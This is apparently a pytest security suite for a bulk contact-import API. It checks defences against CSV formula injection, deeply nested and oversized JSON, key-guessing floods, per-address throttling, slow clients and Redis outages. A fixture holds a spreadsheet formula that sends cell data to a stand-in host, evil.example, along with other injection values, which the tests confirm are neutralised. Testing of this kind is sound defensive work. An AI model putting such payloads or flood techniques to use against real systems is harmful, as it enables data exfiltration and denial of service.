"""Hostile and careless requests (issue 13): each probe against the real services.

Most need limits the session server must not have (low per-address
allowances, second-long timeouts) or a broken Redis, so they run against
servers of their own: ``bulkflow serve --role api --role sink`` on a topic
prefix, embedded ClickHouse, Redis database and temporary directory of their
own, over the run's Postgres database (no agents: what they queue stays queued).
"""

from __future__ import annotations

import asyncio
import csv
import io
import os
import secrets
import subprocess
import sys
import time
import uuid
from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import asyncpg
import httpx
import orjson
import pytest
from pydantic import SecretStr

from bulkflow import constants
from bulkflow.settings import Settings
from ops.bench.fleet import free_port
from tests.conftest import _await_health, settings_env
from tests.support import PATIENCE, Tenant, new_tenant, submit_json
from tests.test_semantics import finished, upload_csv

pytestmark = pytest.mark.anyio

ONE_MIB = 1024 * 1024


@dataclass(frozen=True)
class Private:
    url: str
    pid: int
    log: Path
    tmp: Path  # the server's TMPDIR

    def temporary_files(self) -> list[str]:
        """Files the server has open in its TMPDIR (unnamed O_TMPFILE ones included)."""
        targets = []
        for fd in Path(f"/proc/{self.pid}/fd").iterdir():
            try:
                targets.append(os.readlink(fd))
            except FileNotFoundError:
                pass  # closed meanwhile
        return [t for t in targets if t.startswith(str(self.tmp))]

    def status(self, field: str) -> int:
        """A /proc/<pid>/status field in bytes (VmRSS, VmHWM: the peak)."""
        for line in Path(f"/proc/{self.pid}/status").read_text().splitlines():
            if line.startswith(f"{field}:"):
                return int(line.split()[1]) * 1024
        raise AssertionError(f"no {field}")


@pytest.fixture(scope="module")
def anyio_backend() -> str:
    return "asyncio"


def serve_privately(
    database: Settings, tmp: Path, redis_db: int, **overrides: Any
) -> Iterator[Private]:
    settings = database.model_copy(
        update={
            "topic_prefix": f"{database.topic_prefix}sec-{uuid.uuid4().hex[:6]}.",
            "clickhouse_url": SecretStr(f"chdb://{tmp / 'clickhouse'}"),
            "api_port": free_port(),
            "embedded_clickhouse_port": free_port(),
            "redis_url": SecretStr(f"redis://127.0.0.1:16379/{redis_db}"),
        }
    )
    env = {**os.environ, **settings_env(settings)}
    for name, value in overrides.items():
        env[f"BULKFLOW_{name.upper()}"] = str(value)
    (tmp / "tmp").mkdir()
    env["TMPDIR"] = str(tmp / "tmp")
    log_path = tmp / "bulkflow.log"
    with log_path.open("wb") as log:
        process = subprocess.Popen(
            [sys.executable, "-m", "ops.cli", "serve", "--role", "api", "--role", "sink"],
            env=env,
            stdout=log,
            stderr=subprocess.STDOUT,
        )
    try:
        _await_health(settings.api_url, process, log_path)
        yield Private(settings.api_url, process.pid, log_path, tmp / "tmp")
    finally:
        process.terminate()
        try:
            process.wait(timeout=30)
        except subprocess.TimeoutExpired:
            process.kill()
            process.wait()


#: The guarded server's limits: low enough to reach in a test.
ADDRESS_BURST = 40
AUTH_FAILURE_BURST = 5
HEADER_TIMEOUT = 1.0  # seconds
BODY_IDLE_TIMEOUT = 1.0  # seconds


@pytest.fixture(scope="module")
def guarded(database: Settings, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Private]:
    yield from serve_privately(
        database,
        tmp_path_factory.mktemp("guarded"),
        redis_db=11,
        api_address_requests_per_minute=1_200,
        api_address_burst=ADDRESS_BURST,
        api_auth_failures_per_minute=600,
        api_auth_failure_burst=AUTH_FAILURE_BURST,
        api_header_timeout=HEADER_TIMEOUT,
        api_body_idle_timeout=BODY_IDLE_TIMEOUT,
    )


@pytest.fixture(scope="module")
def redisless(database: Settings, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Private]:
    yield from serve_privately(
        database,
        tmp_path_factory.mktemp("redisless"),
        redis_db=0,
        redis_url=f"redis://127.0.0.1:{free_port()}/0",  # nothing listens there
    )


@pytest.fixture
async def client(guarded: Private) -> AsyncIterator[httpx.AsyncClient]:
    async with httpx.AsyncClient(base_url=guarded.url, timeout=PATIENCE) as client:
        yield client


def assert_error(response: httpx.Response, status: int, code: str) -> dict[str, Any]:
    assert response.status_code == status, response.text
    error: dict[str, Any] = response.json()["error"]
    assert error["code"] == code, error
    return error


async def until_allowed(client: httpx.AsyncClient, tenant: Tenant) -> None:
    """Wait for the address's buckets to let a request through again."""
    deadline = time.monotonic() + PATIENCE
    while (await client.get("/v1/bulk-actions", headers=tenant.headers)).status_code == 429:
        assert time.monotonic() < deadline, "the address's allowance never came back"
        await asyncio.sleep(0.2)


# --- exports ---------------------------------------------------------------

ORIGINALS = [
    # first_name, phone, custom "=Note", custom "Amount"
    ('=HYPERLINK("http://evil.example/?"&A1)', "+44 20 7946 0000", "@SUM(1+1)", "-5"),
    ("'=already quoted", "+1+1", "\tTab", "''-5"),
    ("Plain", "-", "'plain", "+"),
]


async def test_failed_rows_export_neutralises_formulas_and_round_trips(
    api: httpx.AsyncClient, tenant: Tenant, pool: asyncpg.Pool
) -> None:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["email", "first_name", "phone", "=Note", "Amount"])
    emails = [f"formula{i}@example.com" for i in range(len(ORIGINALS))]
    writer.writerows([email, *values] for email, values in zip(emails, ORIGINALS, strict=True))
    # Update contacts that do not exist yet: every row fails (not_found).
    first = await finished(
        api, tenant, await upload_csv(api, tenant, out.getvalue().encode(), action="update")
    )
    assert first["counts"]["failed"] == len(ORIGINALS)

    export = await api.get(
        f"/v1/bulk-actions/{first['id']}/failed-rows.csv", headers=tenant.headers
    )
    assert export.status_code == 200, export.text
    cells = list(csv.reader(io.StringIO(export.text)))
    assert cells[0] == ["email", "first_name", "phone", "'=Note", "Amount", "row_no", "error"]
    assert cells[1][1:5] == ["'" + value for value in ORIGINALS[0]]
    assert cells[2][1:5] == ["''=already quoted", "'+1+1", "'\tTab", "'''-5"]
    assert cells[3][1:5] == ["Plain", "'-", "'plain", "'+"]
    assert not [cell for row in cells for cell in row if cell[:1] in ("=", "+", "-", "@", "\t")]

    # The contacts now exist; the export goes back as it is.
    await finished(api, tenant, await submit_json(api, tenant, [{"email": e} for e in emails]))
    again = await finished(
        api, tenant, await upload_csv(api, tenant, export.content, action="update")
    )
    assert again["counts"] == {"succeeded": len(ORIGINALS), "failed": 0, "skipped": 0}
    stored = await pool.fetch(
        "SELECT email, first_name, phone, custom_fields FROM contacts"
        " WHERE account_id = $1 ORDER BY email",
        tenant.id,
    )
    assert [
        (r["first_name"], r["phone"], r["custom_fields"]["=Note"], r["custom_fields"]["Amount"])
        for r in stored
    ] == ORIGINALS


# --- CSV headers -----------------------------------------------------------


async def test_csv_headers_people_really_send(api: httpx.AsyncClient, tenant: Tenant) -> None:
    spreadsheet = b"email,first_name,,\r\nsheet1@example.com,One,,\r\nsheet2@example.com,Two,,\r\n"
    done = await finished(api, tenant, await upload_csv(api, tenant, spreadsheet))
    assert done["counts"]["succeeded"] == 2

    names = [f"attribute {i}" for i in range(constants.MAX_CSV_COLUMNS - 1)]
    wide = ",".join(["email", *names]) + "\n"
    wide += "".join(
        f"wide{r}@example.com," + ",".join(["v"] * len(names)) + "\n" for r in range(600)
    )
    done = await finished(api, tenant, await upload_csv(api, tenant, wide.encode()))
    assert done["counts"] == {"succeeded": 600, "failed": 0, "skipped": 0}

    too_wide = ",".join(["email", *names, "one more"]) + "\nx@example.com\n"
    response = await api.post(
        "/v1/bulk-actions",
        params={"entity": "contact", "action": "upsert"},
        content=too_wide.encode(),
        headers={**tenant.headers, "content-type": "text/csv"},
    )
    error = assert_error(response, 422, "too_many_columns")
    assert error["message"] == "the header has 1,001 columns; at most 1,000 are accepted"


# --- custom_fields and JSON depth --------------------------------------------


def nested(levels: int) -> dict[str, Any]:
    """An object ``levels`` deep: {"k": {"k": ... {}}}."""
    value: dict[str, Any] = {}
    for _ in range(levels - 1):
        value = {"k": value}
    return value


async def test_deep_custom_fields_fail_their_row_and_deeper_bodies_are_refused(
    api: httpx.AsyncClient, tenant: Tenant
) -> None:
    depth = constants.MAX_CUSTOM_FIELDS_DEPTH
    action = await submit_json(
        api,
        tenant,
        [
            {"email": "deep-ok@example.com", "custom_fields": nested(depth)},
            {"email": "deep-no@example.com", "custom_fields": nested(depth + 1)},
        ],
    )
    done = await finished(api, tenant, action)
    assert done["counts"] == {"succeeded": 1, "failed": 1, "skipped": 0}
    logs = await api.get(
        f"/v1/bulk-actions/{action['id']}/logs",
        params={"outcome": "failed"},
        headers=tenant.headers,
    )
    [failed] = logs.json()["data"]
    assert failed["reason"] == "invalid_custom_fields"
    assert failed["message"] == "custom_fields: objects and arrays nest deeper than 8 levels"

    # The probe (~255 levels, past what orjson writes) and beyond what it reads.
    for levels, status, code in ((255, 422, "validation_failed"), (2_000, 400, "invalid_json")):
        body = {"entity": "contact", "action": "upsert", "rows": [{"email": "x@example.com"}]}
        body["rows"][0]["custom_fields"] = {"k": "__NESTED__"}
        raw = orjson.dumps(body).replace(b'"__NESTED__"', b'{"k":' * levels + b"1" + b"}" * levels)
        response = await api.post(
            "/v1/bulk-actions",
            content=raw,
            headers={**tenant.headers, "content-type": "application/json"},
        )
        assert_error(response, status, code)


# --- JSON bodies -------------------------------------------------------------


def big_body(target: int) -> bytes:
    """10,000 rows just under ``target`` bytes, of many small values (objects cost ~10x their
    JSON). Accepted: queued on the server's own topics, which nothing consumes."""
    values = (target // constants.MAX_JSON_ROWS - 60) // 5
    rows = [
        {"email": f"big{i}@example.com", "custom_fields": {"v": ["ab"] * values}}
        for i in range(constants.MAX_JSON_ROWS)
    ]
    return orjson.dumps({"entity": "contact", "action": "upsert", "rows": rows})


async def test_json_bodies_are_capped_and_parsed_off_the_event_loop(
    guarded: Private, client: httpx.AsyncClient, pool: asyncpg.Pool
) -> None:
    tenant = await new_tenant(pool)
    headers = {**tenant.headers, "content-type": "application/json"}
    over = b" " * (constants.MAX_JSON_BODY_BYTES + 1)
    error = assert_error(
        await client.post("/v1/bulk-actions", content=over, headers=headers),
        413,
        "payload_too_large",
    )
    assert error["details"] == {"limit_bytes": constants.MAX_JSON_BODY_BYTES}  # MEASURE

    body = big_body(constants.MAX_JSON_BODY_BYTES - ONE_MIB)
    assert len(body) > 14 * ONE_MIB
    baseline = guarded.status("VmRSS")
    uploads = [
        asyncio.create_task(client.post("/v1/bulk-actions", content=body, headers=headers))
        for _ in range(4)
    ]
    # The event loop answers while the four are read, parsed and validated: every
    # health check within a deadline (far above an idle loop's milliseconds, far
    # below the seconds the loop was blocked for when it parsed them itself).
    checks = 0
    async with httpx.AsyncClient(base_url=guarded.url, timeout=5.0) as health:
        while not all(upload.done() for upload in uploads):
            assert (await health.get("/healthz")).status_code == 200
            checks += 1
    assert checks > 1
    for upload in uploads:
        assert upload.result().status_code == 202, upload.result().text
    growth = guarded.status("VmHWM") - baseline
    print(f"four {len(body) / ONE_MIB:.1f} MiB bodies: peak RSS +{growth / ONE_MIB:.0f} MiB")
    # One large body decoded and submitted at a time: not the four at once (+1 GB before).
    assert growth < 500 * ONE_MIB, f"peak RSS grew {growth / ONE_MIB:.0f} MiB"


# --- throttling before authentication --------------------------------------------


async def test_a_flood_of_unknown_keys_is_refused_before_any_lookup(
    client: httpx.AsyncClient, pool: asyncpg.Pool
) -> None:
    tenant = await new_tenant(pool)
    await until_allowed(client, tenant)
    statuses: dict[int, int] = {}
    for _ in range(60):
        key = "bf_" + secrets.token_urlsafe(32)  # well-formed: each 401 costs a lookup
        response = await client.get("/v1/bulk-actions", headers={"authorization": f"Bearer {key}"})
        statuses[response.status_code] = statuses.get(response.status_code, 0) + 1
        if response.status_code == 429:
            assert int(response.headers["retry-after"]) >= 1
            assert response.json()["error"]["details"]["kind"] in ("auth_failures", "address")
    assert set(statuses) == {401, 429}, statuses
    # The burst, and what the bucket refilled (10/s) while the loop ran: not 60.
    assert statuses[401] < 60 // 2, statuses
    # Until the address's failures refill, a valid key from it waits too.
    await until_allowed(client, tenant)


async def test_requests_are_throttled_per_client_address(
    client: httpx.AsyncClient, pool: asyncpg.Pool
) -> None:
    tenants = [await new_tenant(pool) for _ in range(3)]  # each account within its own limit
    await until_allowed(client, tenants[0])
    answers = await asyncio.gather(
        *(
            client.get("/v1/bulk-actions", headers=tenants[i % 3].headers)
            for i in range(3 * ADDRESS_BURST)
        )
    )
    refused = [r for r in answers if r.status_code == 429]
    assert refused, [r.status_code for r in answers]
    assert {r.json()["error"]["details"]["kind"] for r in refused} == {"address"}
    assert all(int(r.headers["retry-after"]) >= 1 for r in refused)
    # Every request of the flood is counted now (none falls through an
    # exhausted Redis pool): leave tokens for the next tests, not just one.
    for _ in range(5):
        await until_allowed(client, tenants[0])
        await asyncio.sleep(0.2)


# --- multipart ---------------------------------------------------------------

BOUNDARY = "bulkflow-test-boundary"


def part(name: str, value: bytes, filename: str | None = None) -> bytes:
    disposition = f'form-data; name="{name}"' + (f'; filename="{filename}"' if filename else "")
    return f"--{BOUNDARY}\r\nContent-Disposition: {disposition}\r\n\r\n".encode() + value + b"\r\n"


async def raw_exchange(url: str, request: bytes) -> bytes:
    """Send ``request`` on a connection of its own; the response, or b"" if the server closed.

    Only what is given is sent: the rest of a declared body never comes.
    """
    host, port = httpx.URL(url).host, httpx.URL(url).port
    reader, writer = await asyncio.open_connection(host, port)
    try:
        writer.write(request)
        await writer.drain()
        async with asyncio.timeout(PATIENCE):
            try:
                head = await reader.readuntil(b"\r\n\r\n")
            except asyncio.IncompleteReadError as closed:
                return closed.partial
            length = next(
                int(line.split(b":")[1])
                for line in head.lower().split(b"\r\n")
                if line.startswith(b"content-length:")
            )
            return head + await reader.readexactly(length)
    finally:
        writer.close()


async def test_a_multipart_upload_is_refused_before_its_file_is_read(
    guarded: Private, pool: asyncpg.Pool
) -> None:
    tenant = await new_tenant(pool)
    declared = 1024 * ONE_MIB  # 1 GiB announced; 1 MiB of it sent
    sent = part("action", b"upsert") + f"--{BOUNDARY}\r\n".encode()
    sent += b'Content-Disposition: form-data; name="file"; filename="big.csv"\r\n\r\n'
    sent += b"email\n" + b"x@example.com\n" * (ONE_MIB // 14)
    head = (
        f"POST /v1/bulk-actions HTTP/1.1\r\nHost: localhost\r\n"
        f"Authorization: Bearer {tenant.key}\r\n"
        f"Content-Type: multipart/form-data; boundary={BOUNDARY}\r\n"
        f"Content-Length: {declared}\r\n\r\n"
    ).encode()
    answer = await raw_exchange(guarded.url, head + sent)
    assert answer.startswith(b"HTTP/1.1 422 "), answer[:200]
    error = orjson.loads(answer.partition(b"\r\n\r\n")[2])["error"]
    assert error["code"] == "validation_failed"
    assert error["details"][0]["loc"] == ["entity"]
    assert list(guarded.tmp.iterdir()) == []


async def test_a_multipart_file_streams_without_touching_the_disk(
    guarded: Private, client: httpx.AsyncClient, pool: asyncpg.Pool
) -> None:
    tenant = await new_tenant(pool)
    rows = 400_000  # ~10 MiB: ten times what Starlette kept in memory before spooling to disk
    spooled: list[str] = []

    async def body() -> AsyncIterator[bytes]:
        yield part("entity", b"contact") + part("action", b"upsert")
        yield f"--{BOUNDARY}\r\n".encode()
        yield b'Content-Disposition: form-data; name="file"; filename="c.csv"\r\n'
        yield b"Content-Type: text/csv\r\n\r\nemail,first_name\n"
        for start in range(0, rows, 10_000):
            spooled.extend([*guarded.temporary_files(), *map(str, guarded.tmp.iterdir())])
            yield "".join(f"s{i}@example.com,S\n" for i in range(start, start + 10_000)).encode()
        yield f"\r\n--{BOUNDARY}--\r\n".encode()

    response = await client.post(
        "/v1/bulk-actions",
        content=body(),
        headers={**tenant.headers, "content-type": f"multipart/form-data; boundary={BOUNDARY}"},
    )
    assert response.status_code == 202, response.text
    assert spooled == []
    action = await client.get(f"/v1/bulk-actions/{response.json()['id']}", headers=tenant.headers)
    assert action.json()["total_rows"] == rows

    fields_last = part("file", b"email\nlate@example.com\n", "c.csv") + part("entity", b"contact")
    late = await client.post(
        "/v1/bulk-actions",
        content=fields_last + f"--{BOUNDARY}--\r\n".encode(),
        headers={**tenant.headers, "content-type": f"multipart/form-data; boundary={BOUNDARY}"},
    )
    error = assert_error(late, 422, "validation_failed")
    assert error["details"][0]["loc"] == ["entity"]  # read before the file: not there


# --- slow clients ------------------------------------------------------------


async def test_slow_clients_meet_header_and_body_deadlines(
    guarded: Private, pool: asyncpg.Pool
) -> None:
    # Half a request line, then nothing: the server closes the connection.
    assert await raw_exchange(guarded.url, b"GET /healthz HT") == b""
    # Headers, then a body that stops: 408 in the one error shape.
    tenant = await new_tenant(pool)
    head = (
        f"POST /v1/bulk-actions HTTP/1.1\r\nHost: localhost\r\n"
        f"Authorization: Bearer {tenant.key}\r\nContent-Type: application/json\r\n"
        f"Content-Length: 1000\r\n\r\n"
    ).encode()
    answer = await raw_exchange(guarded.url, head + b'{"entity": ')
    assert answer.startswith(b"HTTP/1.1 408 "), answer[:200]
    assert orjson.loads(answer.partition(b"\r\n\r\n")[2])["error"]["code"] == "request_timeout"


# --- Redis down ----------------------------------------------------------------


async def test_redis_down_reads_go_on_writes_are_503(
    redisless: Private, pool: asyncpg.Pool
) -> None:
    tenant = await new_tenant(pool)
    async with httpx.AsyncClient(base_url=redisless.url, timeout=PATIENCE) as client:
        listed = await client.get("/v1/bulk-actions", headers=tenant.headers)
        assert listed.status_code == 200, listed.text
        missing = await client.get(f"/v1/bulk-actions/{uuid.uuid4()}", headers=tenant.headers)
        assert_error(missing, 404, "not_found")
        assert_error(await client.get("/v1/bulk-actions"), 401, "unauthorized")
        for _ in range(3):
            write = await client.post(
                "/v1/bulk-actions",
                json={"entity": "contact", "action": "upsert", "rows": [{"email": "r@x.io"}]},
                headers=tenant.headers,
            )
            error = assert_error(write, 503, "unavailable")
            assert "Redis" in error["message"]
            assert write.headers["retry-after"] == "5"
    log = redisless.log.read_text()
    assert "request limits unavailable" in log
    assert "Traceback" not in log
